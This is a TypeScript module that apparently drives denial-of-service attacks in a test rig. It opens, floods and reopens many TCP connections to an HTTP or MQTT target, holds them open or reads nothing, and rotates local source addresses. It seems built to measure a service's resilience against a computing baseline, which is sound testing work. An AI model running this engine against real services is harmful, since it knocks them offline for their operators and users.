/** Carries out attacks: opens their connections, and opens them again when they are closed. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from './attack.ts';
import { attacks } from './attacks.ts';

/** No attack, but a process that computes: what calm is compared with (see the README). */
export const busyProcessor = 'busy processor';

/** Between the end of a connection and the next one, ms. */
const pauseMs = 20;

/** Carries one out for so long. */
export async function carryOut(name: string, target: AttackTarget, durationMs: number): Promise<void> {
  if (name === busyProcessor) return compute(durationMs);
  const endMs = performance.now() + durationMs;
  const parts = attacks[name].map((attack) => new Attackers(attack, target, endMs).run());
  await Promise.all(parts);
}

function compute(durationMs: number): void {
  const endMs = performance.now() + durationMs;
  while (performance.now() < endMs);
}

/** The connections of one attack. */
class Attackers {
  readonly #attack: Attack;
  readonly #target: AttackTarget;
  readonly #bytes: Buffer;
  readonly #endMs: number;
  readonly #open = new Set<Socket>();

  constructor(attack: Attack, target: AttackTarget, endMs: number) {
    this.#attack = attack;
    this.#target = target;
    this.#bytes = attack.request(target);
    this.#endMs = endMs;
  }

  async run(): Promise<void> {
    const { connections, endsTogetherMs } = this.#attack;
    const timer = endsTogetherMs === undefined ? null : setInterval(() => this.#endAll(), endsTogetherMs);
    await Promise.all(Array.from({ length: connections }, (_, index) => this.#again(index)));
    if (timer !== null) clearInterval(timer);
  }

  #endAll(): void {
    for (const socket of this.#open) socket.destroy();
  }

  async #again(index: number): Promise<void> {
    while (performance.now() < this.#endMs) {
      await this.#round(index);
      await sleep(pauseMs);
    }
  }

  /** One connection until it is closed or the time is over. */
  #round(index: number): Promise<void> {
    return new Promise((resolve) => {
      const socket = openAttack(this.#attack, this.#target, this.#bytes, index);
      this.#open.add(socket);
      const untilEndMs = Math.max(0, this.#endMs - performance.now());
      const leftMs = Math.min(this.#attack.leavesAfterMs ?? Infinity, untilEndMs);
      const timer = setTimeout(() => socket.destroy(), leftMs);
      socket.once('close', () => {
        clearTimeout(timer);
        this.#open.delete(socket);
        resolve();
      });
    });
  }
}

/** Opens one connection, which sends by itself what the attack sends. */
export function openAttack(attack: Attack, target: AttackTarget, bytes: Buffer, index: number): Socket {
  const { protocol, readsNothing } = attack;
  const { host, localAddress } = target;
  const port = protocol === 'mqtt' ? target.mqttPort : target.port;
  const socket = connect({ host, port, localAddress: addressOf(localAddress, attack, index), noDelay: true });
  socket.on('error', () => {});
  socket.once('connect', () => {
    if (attack.opening !== undefined) socket.write(attack.opening(target, index));
    if (bytes.length > 0) goOn(attack, socket, bytes);
  });
  return readsNothing ? socket.pause() : socket.resume();
}

function goOn({ next = 'answered', readsNothing, pauseMs }: Attack, socket: Socket, bytes: Buffer): void {
  if (next === 'taken') sendAll(socket, bytes, pauseMs);
  else socket.write(bytes);
  if (readsNothing || next !== 'answered') return;
  socket.on('data', (chunk: Buffer) => {
    if (isEnd(chunk)) socket.write(bytes);
  });
}

/** As fast as the service takes it, but for a pause. */
function sendAll(socket: Socket, bytes: Buffer, pauseMs = 0): void {
  const again = () => sendAll(socket, bytes, pauseMs);
  if (!socket.destroyed)
    socket.write(bytes, () => (pauseMs > 0 ? setTimeout(again, pauseMs) : setImmediate(again)));
}

/** Whether an answer ends here, most likely. Whether it was 200 or 503 makes no difference. */
function isEnd(chunk: Buffer): boolean {
  const end = chunk.toString('latin1', Math.max(0, chunk.length - 8));
  return /(?:0\r\n\r\n|[}\]])$/.test(end) || chunk.toString('latin1', 0, 12) === 'HTTP/1.1 204';
}

/** The last part but one of the address says which of several it is. */
function addressOf(localAddress: string, { addresses = 1 }: Attack, index: number): string {
  const [a, b, , d] = localAddress.split('.');
  return addresses === 1 ? localAddress : [a, b, 1 + (index % addresses), d].join('.');
}
